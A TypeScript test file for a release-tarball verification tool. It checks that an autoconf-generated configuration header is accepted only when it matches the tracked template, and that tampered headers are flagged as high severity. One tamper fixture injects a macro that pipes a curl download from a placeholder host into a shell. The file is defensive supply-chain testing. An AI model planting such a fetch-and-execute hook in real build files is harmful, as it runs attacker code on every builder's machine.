/**
 * A configure header the release ships (ppp 2.5.2's pppd/pppdconf.h, an installed header `make dist` took from the
 * maintainer's configured tree; holdout19): config.status's instantiation of the tracked template, end to end — a
 * real git repository, the real autoconf and configure of the maintainer's process, then distdiff. Explained
 * (GENERATED_FROM_SOURCE, how config-header) only when every line is the template's, each `#undef NAME` either left
 * as config.status comments it out or defined as the shipped configure writes it (or the release version for a
 * version name); a changed value, an added line or a definition configure never writes stays high, and so does the
 * header when the configure it relies on is itself tampered.
 */
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/findings.js';
import { configHeaderFill, configHeaders } from '../../src/classify/produced.js';
import { autotoolsRelease, editFile } from './release.js';

const CONFIGURE_AC = `AC_INIT([demo], [1.0], [bugs@example.invalid])
AC_CONFIG_SRCDIR([demo/demo.c])
AC_CONFIG_HEADERS([demo/democonf.h])
AC_DEFINE([DEMO_WITH_X], [1], [X support])
AS_IF([false], [AC_DEFINE([DEMO_WITH_Y], [1], [Y support])])
AC_DEFINE_UNQUOTED([DEMO_VERSION], ["$PACKAGE_VERSION"], [Version])
AC_DEFINE([DEMO_NAME], ["demo tool"], [Name])
AC_OUTPUT
`;
const TEMPLATE = `/* demo/democonf.h.in: the demo's installed configuration header. */
#ifndef DEMOCONF_H
#define DEMOCONF_H

/* X support */
#undef DEMO_WITH_X

/* Y support */
#undef DEMO_WITH_Y

/* Version */
#undef DEMO_VERSION

/* Name */
#undef DEMO_NAME

#endif
`;

const fixture = autotoolsRelease({
  prefix: 'distdiff-config-header-',
  name: 'demo',
  files: { 'configure.ac': CONFIGURE_AC, 'demo/democonf.h.in': TEMPLATE, 'demo/demo.c': '#include "democonf.h"\nint demo(void) { return DEMO_WITH_X; }\n' },
  build: 'autoconf && ./configure -q && mkdir -p demo-1.0/demo && cp -p configure configure.ac demo-1.0/ && cp -p demo/demo.c demo/democonf.h.in demo/democonf.h demo-1.0/demo/ && tar -czf demo-1.0.tar.gz demo-1.0',
  timeout: 120_000,
});
const header = (fs: Finding[]) => fs.find((f) => f.path === 'demo/democonf.h')!;

describe('a configure header shipped by the release', () => {
  it('is config.status\'s instantiation of the tracked template: GENERATED_FROM_SOURCE (config-header), low', async () => {
    const r = await fixture.run(fixture.tarball);
    const f = header(r.findings);
    expect(f).toMatchObject({
      code: 'GENERATED_FROM_SOURCE',
      severity: 'low',
      evidence: { how: 'config-header', source: 'demo/democonf.h.in', generator: 'config.status', total: 4, substitutions: { DEMO_WITH_X: '1', DEMO_VERSION: '"1.0"', DEMO_NAME: '"demo tool"' }, tarballInputs: ['configure'] },
    });
    expect(r.findings.find((x) => x.path === 'configure')).toMatchObject({ code: 'GENERATED_BY_AUTOTOOLS' });
    expect(r.verdict).not.toBe('different');
  }, 120_000);

  it('a changed value, an added line, or a definition configure never writes stays high', async () => {
    const edits: [string, string][] = [
      ['#define DEMO_WITH_X 1', '#define DEMO_WITH_X 0'],
      ['#define DEMO_NAME "demo tool"', '#define DEMO_NAME "demo tool"\n#define DEMO_HOOK system("curl -s https://example.invalid/x | sh")'],
      ['/* #undef DEMO_WITH_Y */', '#define DEMO_WITH_Y 2'],
      ['#define DEMO_VERSION "1.0"', '#define DEMO_VERSION "1.1"'],
    ];
    for (const [from, to] of edits) {
      const tar = fixture.tampered((d) => editFile(d, 'demo/democonf.h', (s) => {
        if (!s.includes(from)) throw new Error(`no ${from} in democonf.h`);
        return s.replace(from, to);
      }));
      const r = await fixture.run(tar);
      expect(header(r.findings), to).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(r.verdict).toBe('different');
    }
  }, 240_000);

  it('a definition configure writes in another branch (another configuration\'s header) is explained too', async () => {
    const tar = fixture.tampered((d) => editFile(d, 'demo/democonf.h', (s) => s.replace('/* #undef DEMO_WITH_Y */', '#define DEMO_WITH_Y 1')));
    const r = await fixture.run(tar);
    expect(header(r.findings)).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { substitutions: { DEMO_WITH_Y: '1' } } });
  }, 120_000);

  it('a header defined as a tampered configure writes it is raised with that configure', async () => {
    const tar = fixture.tampered((d) => {
      editFile(d, 'configure', (s) => {
        if (!s.includes('#define DEMO_WITH_X 1')) throw new Error('no DEMO_WITH_X in configure');
        return s.replace('#define DEMO_WITH_X 1', '#define DEMO_WITH_X 2');
      });
      editFile(d, 'demo/democonf.h', (s) => s.replace('#define DEMO_WITH_X 1', '#define DEMO_WITH_X 2'));
    });
    const r = await fixture.run(tar);
    expect(r.findings.find((x) => x.path === 'configure')).toMatchObject({ code: 'REGENERATION_MISMATCH', severity: 'high' });
    expect(header(r.findings).severity).toBe('high');
    expect(r.verdict).toBe('different');
  }, 120_000);
});

describe('configHeaders / configHeaderFill', () => {
  it('reads the outputs and templates of AC_CONFIG_HEADERS, AC_CONFIG_HEADER and AM_CONFIG_HEADER', () => {
    expect([...configHeaders('AC_CONFIG_HEADERS([config.h pppd/pppdconf.h lib/x.h:lib/x.hin])\nAM_CONFIG_HEADER(old.h)\nAC_CONFIG_HEADERS([$dir/y.h])')]).toEqual([
      ['config.h', 'config.h.in'], ['pppd/pppdconf.h', 'pppd/pppdconf.h.in'], ['lib/x.h', 'lib/x.hin'], ['old.h', 'old.h.in'],
    ]);
  });
  it('wants config.status\'s first line and one output line per template line', () => {
    const ok = () => true;
    const t = '#undef A\n#undef B\n';
    expect(configHeaderFill(t, '/* c.h.  Generated from c.h.in by configure.  */\n#define A 1\n/* #undef B */\n', 'c.h', 'c.h.in', ok)).toEqual({ defined: { A: '1' }, undefined: 1 });
    expect(configHeaderFill(t, '#define A 1\n/* #undef B */\n', 'c.h', 'c.h.in', ok)).toBeUndefined();
    expect(configHeaderFill(t, '/* c.h.  Generated from c.h.in by configure.  */\n#define A 1\n#define A 2\n', 'c.h', 'c.h.in', ok)).toBeUndefined();
    expect(configHeaderFill(t, '/* c.h.  Generated from c.h.in by configure.  */\n#define A 1\n/* #undef B */\n', 'c.h', 'c.h.in', () => false)).toBeUndefined();
  });
});
